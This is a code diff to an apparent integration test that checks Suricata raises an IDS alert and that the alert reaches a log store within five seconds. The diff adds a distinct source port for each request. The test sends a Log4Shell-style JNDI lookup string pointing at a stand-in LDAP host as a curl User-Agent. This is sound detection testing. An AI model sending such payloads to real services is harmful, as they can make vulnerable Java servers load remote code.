@@ -77,14 +77,21 @@ export const idsEvents: Area = {
       const mgmt = app.client(app.plan.managementSegment);
       const store = `http://${hostPort(app.plan.managementAddress, OBSERVABILITY_PORTS.logs)}`;
       const eve = join(app.pods.hostPath(ROUTER_IDS_PATHS.logs), "ids", "eve.json");
-      // Suricata's own alert records in its file (the ids area's process wrote there too, of other sources)
-      const alertedInFile = () =>
+      // Suricata's own alert records in its file for one source port (the ids area's process wrote there too, of
+      // other sources; earlier requests of this test used other ports)
+      const alertedInFile = (port: number) =>
         existsSync(eve) &&
         readFileSync(eve, "utf8")
           .split("\n")
           .filter((l) => l.includes('"event_type":"alert"'))
-          .map((l) => JSON.parse(l) as { src_ip: string; alert: { signature_id: number } })
-          .some((e) => e.src_ip === SOURCE && e.alert.signature_id === JNDI_SID);
+          .flatMap((l) => {
+            try {
+              return [JSON.parse(l) as { src_ip: string; src_port: number; alert: { signature_id: number } }];
+            } catch {
+              return []; // a line Suricata is still writing
+            }
+          })
+          .some((e) => e.src_ip === SOURCE && e.src_port === port && e.alert.signature_id === JNDI_SID);
       const diagnosis = () =>
         [
           ...[...started, app.pods.running.get("log-collector-syslog-ng")].map(
@@ -93,8 +100,8 @@ export const idsEvents: Area = {
           `--- ${eve}\n${existsSync(eve) ? readFileSync(eve, "utf8").slice(-2000) : "(none)"}`,
         ].join("\n");
       const ua = "${jndi:ldap://198.51.100.7:1389/Exploit}";
-      const q = `source:ids event_type:alert src_ip:"${SOURCE}" alert.signature_id:${JNDI_SID}`;
-      const stored = async () => {
+      const stored = async (port: number) => {
+        const q = `source:ids event_type:alert src_ip:"${SOURCE}" src_port:${port} alert.signature_id:${JNDI_SID}`;
         const r = await app.run(
           mgmt.ns,
           ["curl", "-sf", "--max-time", "2", `${store}/select/logsql/query`, "--data-urlencode", `query=${q}`],
@@ -103,23 +110,46 @@ export const idsEvents: Area = {
         const rows = r.stdout.split("\n").filter(Boolean);
         return rows.length ? (JSON.parse(rows[0]) as Record<string, string>) : undefined;
       };
-      // A capture that has just started may miss a first connection; Suricata's own file says whether it alerted.
-      // Once it has, the record must be in the store within 5 s of the request.
+      // A capture that has just started may miss a first connection, or see it whole but alert only when the flow
+      // times out (pkt_src "stream (flow timeout)", ten seconds and more later): each request comes from its own
+      // source port, and only that request's record counts. Suricata's own file says whether it alerted on it;
+      // once it has (on the wire, within the 5 s), the record must be in the store within 5 s of the request.
       let record: Record<string, string> | undefined;
       let sent = 0;
       let attempts = 0;
+      const firstPort = 20_000 + Math.floor(Math.random() * 20_000);
       for (; attempts < 4 && !record; attempts++) {
+        const port = firstPort + attempts;
         sent = Date.now();
         await app.run(
           app.inet,
-          ["curl", "-s", "-o", "/dev/null", "-m", "2", "--interface", SOURCE, "-A", ua, fwd.url],
-          {
-            allowFail: true,
-          },
+          [
+            "curl",
+            "-s",
+            "-o",
+            "/dev/null",
+            "-m",
+            "2",
+            "--interface",
+            SOURCE,
+            "--local-port",
+            String(port),
+            "-A",
+            ua,
+            fwd.url,
+          ],
+          { allowFail: true },
         );
-        record = await waitFor("the alert in the log store", stored, 5_000, 200).catch(() => undefined);
-        if (!record && alertedInFile())
-          throw new Error(`Suricata alerted but the log store has no record within 5 s\n${diagnosis()}`);
+        record = await waitFor(
+          "the alert in the log store",
+          () => stored(port),
+          5_000 - (Date.now() - sent),
+          200,
+        ).catch(() => undefined);
+        if (!record && alertedInFile(port))
+          throw new Error(
+            `Suricata alerted on request ${attempts + 1} (source port ${port}) but the log store has no record within 5 s\n${diagnosis()}`,
+          );
       }
       if (!record) throw new Error(`Suricata raised no alert for four requests\n${diagnosis()}`);
       const took = Date.now() - sent;
